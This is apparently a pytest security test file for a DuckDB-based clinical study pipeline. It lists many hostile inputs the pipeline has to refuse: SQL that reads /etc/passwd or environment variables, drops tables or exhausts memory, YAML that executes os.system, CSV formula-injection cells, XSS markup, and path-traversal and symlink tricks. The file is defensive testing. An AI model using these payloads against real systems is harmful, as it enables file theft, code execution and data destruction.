"""Hostile input: what people who may write mappings, rules and contracts, or deliver cells, must not get done.

Every attempt is named. The SQL is tried twice: at the gate, and past it on a locked-down warehouse, where the worst
of it fails all the same.
"""

import csv
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import polars as pl
import pytest
import yaml

from pipelines import checks, contracts, flat_file, paths, reporting, sources, sql_files, warehouse
from pipelines import study as studies
from pipelines.errors import ContractError, SqlFileError, StudyError, WorkspaceError
from pipelines.workspace import Workspace
from tests import made_up_study

SECRET = "canary-4711"
HEADER = (
    "-- Hostile\n-- Grain: row\n-- Key: a\n-- Units: none\n-- Scope: patient\n-- Source: none\n-- Rows: raw_north.t\n"
)

SQL = {
    "reads a file by its name": "select * from '/etc/passwd'",
    "reads a file by a quoted name": 'select * from "/etc/passwd.csv"',
    "reads a file under the name of a step": (
        'select * from (with "secret.csv" as (select 1 as a) select * from "secret.csv") as t, "secret.csv" as u'
    ),
    "reads a file as CSV": "select * from read_csv('/etc/passwd')",
    "reads a file as text": "select * from read_text('/etc/passwd')",
    "reads a file as bytes": "select * from read_blob('/etc/passwd')",
    "reads a file in capitals": "select * from READ_TEXT('/etc/passwd')",
    "reads a file as Parquet": "select * from read_parquet('x.parquet')",
    "reads a file as JSON": "select * from read_json('x.json')",
    "reads a file in a subquery": "select (select content from read_text('/etc/passwd')) as a",
    "reads a file in a step": "with a as (from read_text('/etc/passwd')) select * from a",
    "reads a file in a lateral join": "select * from raw_north.t, lateral (select * from read_text(t.a))",
    "lists files": "select * from glob('/**')",
    "reads the web": "select * from 'https://example.org/x.csv'",
    "reads another database": "select * from other.main.t",
    "asks for the environment": "select getenv('HOME') as a",
    "asks for the environment through a schema": "select main.getenv('HOME') as a",
    "asks for the environment through a dot": "select 'HOME'.getenv() as a",
    "asks for the environment in a limit": "select 1 as a limit (select getenv('HOME')::int)",
    "asks for the environment in a window": "select sum(1) over (order by getenv('HOME')) as a",
    "asks for the environment in a lambda": "select list_transform([1], lambda x: getenv('HOME')) as a",
    "asks for a setting": "select current_setting('temp_directory') as a",
    "lists the settings": "select * from duckdb_settings()",
    "lists the tables": "select * from duckdb_tables()",
    "lists the tables of the standard": "select * from information_schema.tables",
    "lists the tables of Postgres": "select * from pg_catalog.pg_class",
    "lists the secrets": "select * from duckdb_secrets()",
    "shows the tables": "select * from (show tables)",
    "summarizes a table": "summarize raw_north.t",
    "asks a pragma": "select * from pragma_database_list()",
    "names the user": "select current_user as a",
    "reads the clock": "select now() as a",
    "reads the clock without saying so": "select current_timestamp as a",
    "draws lots": "select random() as a",
    "draws rows": "select * from raw_north.t tablesample 1 rows",
    "runs text as a query": "select * from query('select 1')",
    "runs text as a table": "select * from query_table('raw_north.t')",
    "runs a serialized query": "select * from json_execute_serialized_sql(json_serialize_sql('select 1'))",
    "parses SQL": "select json_serialize_sql('select 1') as a",
    "reads a variable": "select getvariable('a') as a",
    "draws from a sequence": "select nextval('s') as a",
    "writes the log": "select write_log('x') as a",
    "sleeps": "select pg_sleep(1000) as a",
    "quotes a row in an error": "select error(a) as a from raw_north.t",
    "goes round for ever": "with recursive a as (select 1 as n union all select n from a) select * from a",
    "deletes in a step": "with a as (delete from raw_north.t returning *) select * from a",
    "inserts in a step": "with a as (insert into raw_north.t values (1) returning *) select * from a",
    "updates in a step": "with a as (update raw_north.t set a = 1 returning *) select * from a",
    "deletes": "delete from raw_north.t",
    "drops": "drop table raw_north.t",
    "drops after a select": "select 1 as a; drop table raw_north.t",
    "drops after a comment": "select 1 as a -- ;\n; drop table raw_north.t",
    "copies to a file": "copy (select 1) to 'x.csv'",
    "copies to a file after a select": "select 1 as a; copy raw_north.t to 'x.csv'",
    "exports the database": "export database 'x'",
    "attaches a database": "attach 'x.duckdb'",
    "installs an extension": "install httpfs",
    "loads an extension": "load httpfs",
    "changes a setting": "set enable_external_access = true",
    "unlocks the configuration": "pragma enable_external_access",
    "makes a macro": "create macro lower(a) as 'x'",
    "makes a secret": "create secret (type s3)",
    "prepares a statement": "prepare a as select 1",
    "calls a procedure": "call pragma_version()",
    "explains by running": "explain analyze select 1",
    "pivots": "pivot raw_north.t on a",
    "travels in time": "select * from raw_north.t at (version => 1)",
    "reads the Python that runs it": "select * from used",
    "reads the Python that runs it under the name of a step": (
        "select * from (with values as (select 1 as a) select * from values) as t, frame"
    ),
    "reads a schema of another project": "select * from main.t",
    "reads temporary tables": "select * from temp.judged_row",
    "nests without end": "select " + "(" * 5000 + "1" + ")" * 5000 + " as a",
    "adds without end": "select " + "1+" * 60_000 + "1 as a",
    "is endless": "select '" + "x" * 300_000 + "' as a",
    "has a NUL byte": "select 1 as a\0; drop table raw_north.t",
    "overwrites rows": "select 1 as a on conflict do update set a = 2",
    "returns what it inserts": "select 1 as a returning *",
    "lays out a gigabyte": "select format('{:>1000000000}', 'x') as a",
    "prints a gigabyte": "select printf('%1000000000s', 'x') as a",
    "repeats a gigabyte": "select repeat('x', 1000000000) as a",
    "draws a bar of a gigabyte": "select bar(1, 0, 1, 1000000000) as a",
    "makes a list of a billion": "select list_resize([1], 1000000000) as a",
    "pads to a gigabyte on the left": "select lpad('x', 1000000000, 'x') as a",
    "pads to a gigabyte on the right": "select rpad(a, 1000000000, 'x') as a from raw_north.t",
    "pads to one more than may be": "select lpad(a, 1001, '0') as a from raw_north.t",
    "pads to a sum": "select lpad('x', 500000000 + 500000000, 'x') as a",
    "pads to a column": "select lpad('x', n, 'x') as a from (select 1000000000 as n)",
    "counts to billions": "select * from range(3000000000)",
    "counts to billions in a list": "select range(0, 3000000000) as a",
    "counts to billions by name": "select * from generate_series(1, 3000000000::bigint)",
    "counts to a power": "select * from range(10 ** 12)",
    "counts to a product": "select unnest(range(1000000 * 1000000)) as a",
    "counts to one more than may be": "select * from range(1000001)",
    "counts to what a row says": "select unnest(range(n)) as a from raw_north.t",
    "counts to what a row says in the from clause": "select i from raw_north.t as t, range(t.n) as r (i)",
    "counts from what a row says": "select unnest(range(n, 5)) as a from raw_north.t",
    "counts down from what a row says": "select unnest(range(n, 5, -1)) as a from raw_north.t",
    "counts down to what a row says": "select unnest(range(5, least(n, 5), -1)) as a from raw_north.t",
    "counts in steps that a row says": "select unnest(range(least(n, 9), 5, m)) as a from raw_north.t",
    "counts to the least of two columns": "select unnest(range(least(n, m))) as a from raw_north.t",
    "counts to the least of too many": "select unnest(range(least(n, 1000001))) as a from raw_north.t",
    "counts to the most of a column": "select unnest(range(greatest(n, 5))) as a from raw_north.t",
    "counts to what a subquery says": "select unnest(range((select max(n) from raw_north.t))) as a",
    "counts to a bound times a bound": "select unnest(range(least(n, 1000) * least(n, 100000))) as a from raw_north.t",
    "counts microseconds": "select unnest(generate_series(a, b, interval 1 microsecond)) as a from raw_north.t",
    "counts seconds of a row": "select unnest(range(a, b, to_seconds(1))) as a from raw_north.t",
    "counts steps of no day": "select unnest(range(a, b, interval '0 days')) as a from raw_north.t",
    "counts steps of a column of days": "select unnest(range(a, b, to_days(n))) as a from raw_north.t",
    "closes a parenthesis": "select 1 as a) union all (select 1 as a",
    "defines a macro": "create macro names_opioid(drug_text) as true",
    "shadows a macro before it selects": "create temp macro names_opioid(drug_text) as true; select 1 as a",
    "calls a macro of another schema": "select raw_north.names_opioid(a) as a from raw_north.t",
    "calls a macro of the warehouse": "select main.names_opioid(a) as a from raw_north.t",
    "calls a macro of another database": "select other.main.names_opioid(a) as a from raw_north.t",
    "calls a macro by a text": "select a.names_opioid() as a from raw_north.t",
    "calls a macro that no file has": "select names_tobacco(a) as a from raw_north.t",
    "selects from a macro": "select * from names_opioid('codeine')",
}


@pytest.mark.parametrize("text", SQL.values(), ids=SQL)
def test_no_mapping_and_no_rule_gets_hostile_sql_past_the_gate(text, monkeypatch, tmp_path):
    for folder in ("2_clean/north", "5_label/rules"):
        file = tmp_path / "sql" / folder / "patient.sql"
        file.parent.mkdir(parents=True)
        file.write_text(HEADER + text)
        with pytest.raises(SqlFileError) as refused:
            sql_files.read(file)
        assert len(str(refused.value)) < 400


@pytest.mark.parametrize("text", SQL.values(), ids=SQL)
def test_no_query_of_a_contract_gets_hostile_sql_past_the_gate(text, contract_file):
    query = {"type": "unexpected_rows_expectation", "why": "Why.", "unexpected_rows_query": text}
    with pytest.raises(ContractError):
        contract_file(expectations=[query])


@pytest.mark.parametrize(
    "text",
    [
        "select a, lower(b) as b, count(*) over (partition by a order by b) as n from raw_north.t where a like 'x%'",
        "with step as (select a from raw_north.t group by all having count(*) > 1) select * from step join clean.patient "
        "on a = patient_id",
        "select unnest(range(3)) as a",
        "select unnest(range(least(n, 1000))) as a, range(-5, 1 + least(n::bigint, 9, 10), 2) as b from raw_north.t",
        "select unnest(range(greatest(n, -3), least(m - 1, 4))) as a, range(5, greatest(n, 0), -1) as b from raw_north.t",
        "select unnest(range(1, json_array_length(a)::bigint + 1)) as a, range(len(b)) as c from raw_north.t",
        "select unnest(range(a, b, interval '2 weeks')) as a, range(a, b, to_days(1)) as c from raw_north.t",
        "select unnest(range(1, $window_days)) as a",
        "select lpad(a, 11, '0') as a, rpad(a, 1000, ' ') as b from raw_north.t",
        "select unnest(generate_series(a, date '2030-01-01', interval 1 day)) as a, range(-12, 1000000) as b "
        "from raw_north.t",
        "select b.c.d as d, list_filter(l, lambda x: x > 1) as l, l[1] as f from raw_north.t as b",
        "select case when a then 1 end as a, try_cast(b as date) as b from raw_north.t union all select 1, null",
        "select $window_days as a",
        "select distinct on (a) a, b from raw_north.t order by a, b desc nulls last limit 5",
        "select names_opioid(a) as a, Names_Adjuvant(b) as b from raw_north.t",
    ],
)
def test_plain_selects_pass(text, tmp_path):
    file = tmp_path / "sql" / "2_clean" / "north" / "patient.sql"
    file.parent.mkdir(parents=True)
    file.write_text(HEADER + text)
    assert sql_files.read(file).text.endswith(text)


# --- Past the gate: a warehouse that is locked down ---

PAST_THE_GATE = {
    "reads a file that is no extract": "select * from read_text('{secret}')",
    "reads a file by its name": "select * from '{secret}'",
    "lists a folder": "select * from glob('{folder}/*')",
    "writes a file": "copy (select 1) to '{folder}/written.csv'",
    "exports the database": "export database '{folder}/written'",
    "attaches a database": "attach '{folder}/written.duckdb'",
    "opens files again": "set enable_external_access = true",
    "allows a folder": "set allowed_directories = ['/']",
    "moves the spill folder": "set temp_directory = '{folder}'",
    "unlocks the configuration": "set lock_configuration = false",
    "takes more memory": "set memory_limit = '900GB'",
    "installs an extension": "install httpfs",
    "loads an extension": "load '{folder}/x.duckdb_extension'",
    "reads the Python that runs it": "select * from frame",
}


@pytest.mark.parametrize("text", PAST_THE_GATE.values(), ids=PAST_THE_GATE)
def test_a_locked_down_warehouse_reaches_no_file_no_setting_and_no_variable(text, tmp_path):
    frame = pl.DataFrame({"secret": [SECRET]})
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_text(f"a\n{SECRET}\n")
    (tmp_path / "work").mkdir()
    with warehouse.opened(tmp_path / "work" / "warehouse.duckdb") as connection, pytest.raises(duckdb.Error):
        connection.execute(text.format(secret=outside / "secret.csv", folder=outside)).fetchall()
    assert sorted(file.name for file in outside.iterdir()) == ["secret.csv"]
    assert len(frame) == 1


def test_a_check_changes_nothing_even_past_the_gate(contract_file):
    """A contract made in Python has passed no gate; its query still runs in a read-only transaction."""
    connection = duckdb.connect()
    contract = contract_file()
    warehouse.create(connection, contract)
    connection.execute(f"insert into {contract.table} (patient_id) values ('x')")
    query = "with a as (delete from raw_north.t returning *) select * from a"
    rule = {"type": "unexpected_rows_expectation", "why": "Why.", "unexpected_rows_query": f"{query} -- {{batch}}"}
    hostile = contract.model_copy(update={"expectations": [contracts.Expectation.model_validate(rule)]})
    assert (
        next(found.status for found in checks.check(connection, hostile) if found.expectation == rule["type"])
        == "error"
    )
    assert warehouse.count(connection, contract.table) == 1


# --- Contracts ---


@pytest.fixture
def contract_file(tmp_path, monkeypatch):
    """Reads a contract of raw_north.t as it would stand in a file."""

    def read(column=None, **changes):
        content = {
            "table": "raw_north.t",
            "description": "A table.",
            "key": [],
            "files": "t.csv",
            "columns": [{"name": "patient_id", "type": "VARCHAR", "description": "Person."} | (column or {})],
        }
        file = tmp_path / "data_contracts" / "0_raw" / "north" / "t.yaml"
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(yaml.safe_dump(content | changes))
        return contracts.read(file)

    return read


READS_A_FILE = (
    "a\" is not null group by all) union all select unnest(range(2)) from (select * from read_text('/etc/passwd')) --"
)
CONTRACTS = {
    "counts rows at risk in a file": {
        "expectations": [
            {
                "type": "unexpected_rows_expectation",
                "why": "Why.",
                "unexpected_rows_query": "select 1 from {batch}",
                "rows_at_risk_query": "select * from read_text('/etc/passwd')",
            }
        ]
    },
    "drops a table by a column's type": {"column": {"type": "VARCHAR); drop table raw.delivery; --"}},
    "adds a column by a type": {"column": {"type": "VARCHAR, b VARCHAR"}},
    "reads the environment by a type": {"column": {"type": "VARCHAR default getenv('HOME')"}},
    "reads the environment by a generated column": {"column": {"type": "VARCHAR as (getenv('HOME'))"}},
    "makes a table of a query by a type": {"column": {"type": "VARCHAR) as (select 1"}},
    "closes the DDL by a column's name": {"column": {"name": "a) as select 1; --"}},
    "closes the DDL by the table's name": {"table": "raw_north.t; drop table raw.delivery"},
    "names the table of another contract": {"table": "clean.patient"},
    "names no number as a limit": {"column": {"minimum": float("nan")}},
    "names the end of the world as a limit": {"column": {"maximum": float("inf")}},
    "runs a function of Python": {"built_by": "os.system"},
    "runs a method of a class": {"built_by": "pipelines.study.__class__"},
    "runs a function of a package below": {"built_by": "pipelines.paths.os.system; x"},
    "dates events by a query": {"event_date": "(select max(scored_at) from clean.pain_score)"},
    "adds up what a file says": {
        "adds_up": [{"total": "a b", "parts": ["patient_id"], "where": "exists (from read_text('/etc/passwd'))"}]
    },
    "adds up past its condition": {
        "adds_up": [{"total": "a b", "parts": ["patient_id"], "where": "1) union (select 1"}]
    },
    "checks rows past their condition": {
        "expectations": [
            {
                "type": "expect_column_values_to_not_be_null",
                "column": "patient_id",
                "why": "Why.",
                "row_condition": "getenv('HOME') = 'x'",
            }
        ]
    },
    **{
        f"reads a file by a column of {type_}": {
            "expectations": [{"type": type_, "why": "Why.", **arguments}],
        }
        for type_, arguments in {
            "expect_column_values_to_be_unique": {"column": READS_A_FILE},
            "expect_compound_columns_to_be_unique": {"column_list": ["patient_id", READS_A_FILE]},
            "expect_column_values_to_not_be_null": {"column": READS_A_FILE},
            "expect_column_pair_values_to_be_equal": {"column_A": "patient_id", "column_B": READS_A_FILE},
            "expect_table_columns_to_match_set": {"column_set": [READS_A_FILE]},
            "expect_column_values_to_be_null": {
                "column": "patient_id",
                "row_condition": {
                    "type": "and",
                    "conditions": [{"type": "nullity", "column": {"name": READS_A_FILE}, "is_null": True}],
                },
            },
            "expect_column_values_to_be_in_set": {
                "column": "patient_id",
                "value_set": ["a"],
                "row_condition": {"type": "pass_through", "pass_through_filter": "getenv('HOME') = 'x'"},
            },
        }.items()
    },
    "compares with a query of its own": {
        "expectations": [
            {
                "type": "expect_query_results_to_match_comparison",
                "why": "Why.",
                "base_query": "select 1",
                "comparison_query": "select * from read_text('/etc/passwd')",
            }
        ]
    },
    "has a key that nobody knows": {"python": "os.system('true')"},
}


@pytest.mark.parametrize("changes", CONTRACTS.values(), ids=CONTRACTS)
def test_no_contract_says_more_than_it_says(changes, contract_file):
    with pytest.raises(ContractError):
        contract_file(**changes)


@pytest.mark.parametrize("where", [{"column": "patient_id"}, {"column_list": ["source_file", "source_row"]}])
def test_a_check_may_name_the_columns_that_the_table_has(where, contract_file):
    kind = "expect_column_values_to_be_unique" if "column" in where else "expect_compound_columns_to_be_unique"
    condition = {"type": "comparison", "column": {"name": "source_row"}, "operator": ">", "parameter": 1}
    checked = {"type": kind, "why": "Why.", "row_condition": condition, **where}
    assert contract_file(expectations=[checked]).expectations


@pytest.mark.parametrize(
    "rule",
    [
        "match_regex",
        "not_match_regex",
        "match_regex_list",
        "match_like_pattern",
        "be_of_type",
        "be_in_type_list",
        "be_increasing",
        "be_decreasing",
        "be_dateutil_parseable",
        "be_json_parseable",
    ],
)
def test_a_check_that_never_works_on_duckdb_is_refused_with_what_to_write(rule, contract_file):
    checked = {"type": f"expect_column_values_to_{rule}", "column": "patient_id", "why": "Why."}
    with pytest.raises(
        ContractError, match=r"works on DuckDB\. Write an unexpected_rows_expectation, or .* the column"
    ):
        contract_file(expectations=[checked])


def test_a_condition_in_sql_is_refused_with_what_to_write(contract_file):
    checked = {"type": "expect_column_values_to_be_null", "column": "patient_id", "why": "Why."}
    with pytest.raises(ContractError, match=r"row_condition in SQL does not work on DuckDB\. Write an unexpected_rows"):
        contract_file(expectations=[checked | {"row_condition": "patient_id = 'a'"}])


def test_a_quote_in_a_listed_value_stays_a_value(contract_file):
    value = "x') or 1 = 1; drop table raw.delivery; --"
    column = contract_file({"values": [value]}).columns[0]
    [(condition, _, _)] = sources._rules(column)
    connection = duckdb.connect()
    connection.execute("create table mapped as select unnest([?, 'y']) as patient_id", [value])
    assert connection.sql(f"select patient_id from mapped where {condition}").fetchall() == [("y",)]


def test_every_type_of_the_projects_own_contracts_passes():
    assert contracts.all_contracts()


# --- YAML ---

LAUGH = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(9)
)
YAML = {
    "laughs a billion times": LAUGH,
    "nests without end": "a: " + "[" * 100_000,
    "nests deeper than a study": "a: " + "[" * 30 + "]" * 30,
    "is endless": "a: " + "x" * 1_100_000,
    "makes an object": "a: !!python/object/apply:os.system ['true']",
    "makes a module": "a: !!python/module:os",
    "has a tag of its own": "a: !secret x",
    "has a number of many digits": "a: " + "9" * 5000,
    "has a day that is none": "a: 2021-13-45",
    "has a list as a key": "? [a]\n: b",
    "has two documents": "a: 1\n---\nb: 2",
    "has a key twice": "name: x\nname: y",
    "has a NUL byte": "a: \0",
    "is no UTF-8": b"a: \xff",
    "refers to itself": "a: &a [*a]",
    "is a list": "- a",
    "is nothing": "",
}


@pytest.mark.parametrize("text", YAML.values(), ids=YAML)
def test_no_yaml_takes_the_machine(text, tmp_path):
    file = tmp_path / "data_contracts" / "0_raw" / "north" / "t.yaml"
    file.parent.mkdir(parents=True)
    file.write_bytes(text if isinstance(text, bytes) else text.encode())
    with pytest.raises(StudyError):
        studies.load(file)
    with pytest.raises(ContractError):
        contracts.read(file)


# --- Cells ---

CELLS = {
    "a formula": "=cmd|' /C calc'!A0",
    "a formula by plus": "+cmd|' /C calc'!A0",
    "a formula by minus": "-cmd|' /C calc'!A0",
    "a formula by at": "@SUM(1+1)",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a carriage return": "\r=1+1",
    "a formula behind a line feed": "\n=1+1",
    "a formula behind blanks": "  =1+1",
    "a formula in wide letters": "\uff1d1+1",
    "a link": '=HYPERLINK("http://example.org/"&A1)',
    "a call in what looks like a number": "-1+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("cell", CELLS.values(), ids=CELLS)
def test_no_cell_is_a_formula_in_a_written_csv(cell, tmp_path):
    flat_file.write(pl.DataFrame({"a": [cell], cell: [1]}), tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
        header, row = csv.reader(file)
    assert row == ["'" + cell, "1"]
    assert header == ["a", "'" + cell]


@pytest.mark.parametrize("cell", ["-5", "+5", "-0.5e3", "5", "oxycodone 5 MG", "", None, "a=b", "--"])
def test_numbers_and_texts_that_are_no_formulas_are_written_as_they_are(cell, tmp_path):
    flat_file.write(pl.DataFrame({"a": pl.Series([cell, "x"], dtype=pl.String)}), tmp_path / "out.csv")
    kept = pl.read_csv(tmp_path / "out.csv", infer_schema=False)["a"][0]
    assert (kept or "") == (("'--" if cell == "--" else cell) or "")


def test_numbers_and_parquet_are_left_alone(tmp_path):
    rows = pl.DataFrame({"a": [-5.0], "b": ["=1+1"]})
    flat_file.write(rows, tmp_path / "out.parquet")
    assert pl.read_parquet(tmp_path / "out.parquet").equals(rows)
    flat_file.write(rows, tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_text() == "a,b\n-5.0,'=1+1\n"


SCRIPTS = {
    "a script": "<script>alert(1)</script>",
    "an image": "<img src=x onerror=alert(1)>",
    "an attribute": '" onmouseover="alert(1)',
    "a template": "{{ 7 * 7 }}{% for x in y %}",
    "an end of the page": "</td></table><iframe src='http://example.org'>",
}


class _Page(HTMLParser):
    """What a browser makes of a page: its elements with their attributes, and its text."""

    def __init__(self, page: str):
        super().__init__()
        self.elements: list[tuple[str, list]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_data(self, data):
        self.text += data

    @property
    def is_hostile(self) -> bool:
        tags = {tag for tag, _ in self.elements}
        attributes = {name for _, attributes in self.elements for name, _ in attributes}
        return bool(tags & {"script", "img", "iframe"} or {name for name in attributes if name.startswith("on")})


def test_no_drug_text_title_or_reason_is_markup_in_the_report(monkeypatch, tmp_path):
    """Through the whole page: the texts of a study, of drugs that nobody can read, of sources and of checks."""
    text = " ".join(SCRIPTS.values())
    study = studies.Study(name="s", title=text, sources={"simulated": {"folder": tmp_path}}, output=tmp_path / "out")
    connection = made_up_study.study(120, 1)
    rows = pl.DataFrame({"drug_text": [*SCRIPTS.values()]})
    rows = rows.with_columns(reason="drug_text", record_count=500, patient_count=300)
    made_up_study.insert(connection, "report.unread_text", rows)
    now = datetime(2024, 1, 1, tzinfo=UTC)
    facts = reporting.Facts("r", text, text, text, text, now, now, (text,), True)
    check = checks.CheckResult(
        table=text, check=text, expectation="x", arguments={}, column=None, severity="critical", why=text,
        status="failed", rows=500, failing_rows=100,
    )  # fmt: skip
    page = _Page(reporting.write(connection, study, facts, [check], tmp_path / "report").read_text())
    assert not page.is_hostile
    assert all(text in page.text for text in SCRIPTS.values())


def test_no_text_of_a_contract_or_study_is_markup_on_the_quality_pages(contract_file, tmp_path):
    text = " ".join(SCRIPTS.values())
    connection = duckdb.connect()
    rules = [
        {"type": "unexpected_rows_expectation", "why": text, "unexpected_rows_query": "select 1 from {batch}"},
        {"type": "expect_column_values_to_be_in_set", "column": "patient_id", "value_set": [text], "why": text},
    ]
    contract = contract_file(expectations=rules, description=text)
    warehouse.create(connection, contract)
    connection.execute(f"insert into {contract.table} (patient_id) values ('x')")
    connection.execute("create schema raw; create table raw.quarantine (source varchar, table_name varchar)")
    found = checks.check(connection, contract)
    checks.data_docs(found, tmp_path / "quality", text, {"Study": text}, failures=[text], not_built=[text])
    for page in (tmp_path / "quality").glob("*.html"):
        assert not _Page(page.read_text()).is_hostile, page.name


# --- Paths ---


def study_file(folder: Path, **changes) -> Path:
    (folder / "extract").mkdir(parents=True, exist_ok=True)
    content = {"name": "s", "title": "S", "sources": {"simulated": {"folder": "extract"}}, "output": "out"}
    file = folder / "study.yaml"
    file.write_text(yaml.safe_dump(content | changes))
    return file


def test_paths_that_lead_where_they_say_are_fine(tmp_path):
    (tmp_path / "beside").mkdir()
    file = study_file(tmp_path / "studies", sources={"simulated": {"folder": "../beside"}}, output="../out")
    assert studies.load(file).sources["simulated"].folder == tmp_path / "beside"


@pytest.mark.parametrize("key", ["folder", "output", "truth", "ndc_table"])
@pytest.mark.parametrize("place", ["../beside/it", "{root}/beside/it"])
def test_a_path_goes_up_from_the_study_file_or_is_absolute(key, place, tmp_path):
    (tmp_path / "beside").mkdir()
    if key == "ndc_table":
        (tmp_path / "beside" / "it").write_text("ndc,drug_text\n12345-6789-01,MORPHINE 5 MG TABLET\n")
        (tmp_path / "beside" / "it").rename(tmp_path / "beside" / "it.csv")
        place += ".csv"
    said = place.format(root=tmp_path)
    study = studies.load(
        study_file(
            tmp_path / "studies", **({"sources": {"simulated": {key: said}}} if key == "folder" else {key: said})
        )
    )
    found = study.sources["simulated"].folder if key == "folder" else getattr(study, key)
    assert found == tmp_path / "beside" / Path(said).name


@pytest.mark.parametrize("key", ["sources.simulated.folder", "output", "truth", "ndc_table"])
def test_a_path_that_goes_down_and_up_is_told_where_it_starts(key, tmp_path):
    said = "../beside/../elsewhere"
    is_folder = key.endswith("folder")
    file = study_file(tmp_path / "s", **({"sources": {"simulated": {"folder": said}}} if is_folder else {key: said}))
    with pytest.raises(StudyError) as refused:
        studies.load(file)
    assert str(refused.value) == (
        f"{file}: {key} goes down and up again (..). Write where it leads: a relative path starts at the study "
        "file and may go up from there first, as ../extract does."
    )


def test_an_output_with_what_the_study_or_a_run_put_there_is_fine(tmp_path):
    file = study_file(tmp_path, sources={"simulated": {"folder": "out/simulated/extract"}}, truth="out/truth")
    for name in ("simulated/extract", "truth"):
        (tmp_path / "out" / name).mkdir(parents=True)
    study = studies.load(file)
    with Workspace(study).locked():
        (tmp_path / "out" / "notes.txt").write_text("of whoever works with it")
    assert studies.load(file) == study


def test_an_output_with_files_of_others_is_refused(tmp_path):
    file = study_file(tmp_path)
    (tmp_path / "out").mkdir()
    studies.load(file)
    (tmp_path / "out" / "passwd").write_text("root")
    with pytest.raises(StudyError, match=r"holds files that no run of this program wrote\. Choose a new"):
        studies.load(file)


PATHS = {
    "an output that is the system's": {"output": "/etc"},
    "an output that is the system's, on the way up": {"output": "../" * 30 + "etc"},
    "an output that is everything": {"output": "/"},
    "an output beyond a folder it only passes": {"output": "extract/../../elsewhere"},
    "an extract beyond a folder it only passes": {"sources": {"simulated": {"folder": "extract/../../../etc"}}},
    "an output that is a link": {"output": "link"},
    "an output behind a link": {"output": "link/out"},
    "an extract that is a link": {"sources": {"simulated": {"folder": "link"}}},
    "a truth that is a link": {"truth": "link"},
    "a table of codes that is a link": {"ndc_table": "link/codes.csv"},
    "a source whose name is a path": {"sources": {"../../../tmp": {"folder": "extract"}}},
    "a source whose name is SQL": {"sources": {"simulated; drop table raw.delivery": {"folder": "extract"}}},
    "an output inside an extract": {"output": "extract/out"},
    "an output that is the extract": {"output": "extract"},
    "an extract inside the output's own work": {"sources": {"simulated": {"folder": "out/work"}}},
    "an output among the contracts": {"output": str(paths.DATA_CONTRACTS / "out")},
    "an output among the SQL": {"output": str(paths.SQL)},
    "a path with a NUL byte": {"output": "o\0ut"},
}


@pytest.mark.parametrize("changes", PATHS.values(), ids=PATHS)
def test_no_path_of_a_study_leads_elsewhere_than_it_says(changes, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "codes.csv").write_text("ndc,drug_text\n")
    file = study_file(tmp_path / "studies", **changes)
    (tmp_path / "studies" / "link").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(StudyError) as refused:
        studies.load(file)
    assert len(str(refused.value).splitlines()) == 1


@pytest.mark.parametrize("name", ["work", "runs", "models", ".dagster", "lock"])
def test_nothing_is_written_through_a_link_in_the_output(name, tmp_path):
    study = studies.load(study_file(tmp_path))
    (tmp_path / "elsewhere").mkdir()
    study.output.mkdir()
    (study.output / name).symlink_to(tmp_path / "elsewhere")
    with pytest.raises(WorkspaceError), Workspace(study).locked():
        pass
    assert not list((tmp_path / "elsewhere").iterdir())


def test_a_parameter_that_nobody_sets_is_told_in_one_line(tmp_path):
    file = tmp_path / "sql" / "2_clean" / "north" / "patient.sql"
    file.parent.mkdir(parents=True)
    for name in ("$nobody", "?", "$1"):
        file.write_text(HEADER + f"select {name} as a")
        with duckdb.connect() as connection, pytest.raises(SqlFileError, match="is no parameter"):
            warehouse.insert(connection, sql_files.read(file), "t", {})


def test_a_name_in_a_message_neither_acts_on_a_terminal_nor_breaks_the_line():
    said = str(StudyError("a\x1b[2Jb\nerror: c\u202ed"))
    assert said.isprintable() and len(said.splitlines()) == 1
